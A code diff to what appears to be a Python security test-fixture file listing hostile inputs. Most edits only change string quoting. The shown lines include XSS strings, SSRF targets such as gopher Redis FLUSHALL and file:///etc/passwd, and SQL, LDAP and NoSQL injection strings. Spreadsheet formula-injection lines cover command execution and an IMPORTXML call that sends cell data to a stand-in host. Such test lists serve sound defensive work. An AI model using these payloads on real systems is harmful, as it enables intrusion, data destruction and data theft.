@@ -71,7 +71,7 @@ ADDRESSES = (
     "data:text/html,<script>alert('zqx')</script>",
     "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "vbscript:msgbox('zqx')",
-    "https://zqx.example/\"onclick=\"alert(1)",
+    'https://zqx.example/"onclick="alert(1)',
     "https://zqx.example/'><zqx-element>",
     "http://zqx.example/<script>alert(1)</script>",
     "www.zqx.example/?a=1&b=<zqx-element>",
@@ -79,8 +79,8 @@ ADDRESSES = (
     "https://[::1",
     "http://user:pass@zqx.example:99999/",
     "https://tapon.go.th@zqx.example",
-    "mailto:a@b?bcc=zqx@zqx.example\"onclick=alert(1)",
-    "a\"onclick=alert(1)@zqx.example",
+    'mailto:a@b?bcc=zqx@zqx.example"onclick=alert(1)',
+    'a"onclick=alert(1)@zqx.example',
     "tel:1111;ext=<zqx-element>",
     "file:///etc/passwd",
     "gopher://127.0.0.1:6379/_FLUSHALL",
@@ -114,7 +114,7 @@ QUERIES = (
     ":agency",
     "?1",
     "$1::bigint",
-    "{\"$ne\": null}",
+    '{"$ne": null}',
     "COPY staff TO PROGRAM 'id'",
     "(&(uid=*)(userPassword=*))",
 )
@@ -364,7 +364,7 @@ DAYS = (
     "1969-12-31T23:59:60+24:00",
 )
 FORMULAS = (
-    "=HYPERLINK(\"http://zqx.example\",\"x\")",
+    '=HYPERLINK("http://zqx.example","x")',
     "=cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
@@ -374,10 +374,10 @@ FORMULAS = (
     "  =1+1",
     "\u00a0=1+1",
     "＝1+1",
-    "=1+1\",=2+2\n=3+3",
-    "\";=1+1;\"",
+    '=1+1",=2+2\n=3+3',
+    '";=1+1;"',
     "%0A=1+1",
-    "=IMPORTXML(CONCAT(\"http://zqx.example/?\",A1),\"//a\")",
+    '=IMPORTXML(CONCAT("http://zqx.example/?",A1),"//a")',
 )
 
 GROUPS: Mapping[str, Sequence[str]] = {
@@ -443,8 +443,3 @@ def form_of(fields: Mapping[str, str]) -> bytes:
 def cleaned(text: str) -> str:
     """The text as databases keep it."""
     return text.replace("\0", "\ufffd").encode("utf-8", "replace").decode()
-
-
-def told_in(lines: str) -> list[str]:
-    """Those of the inputs that can be told from other words and stand in these lines."""
-    return [text for text in INPUTS if MARK in text and text in lines]
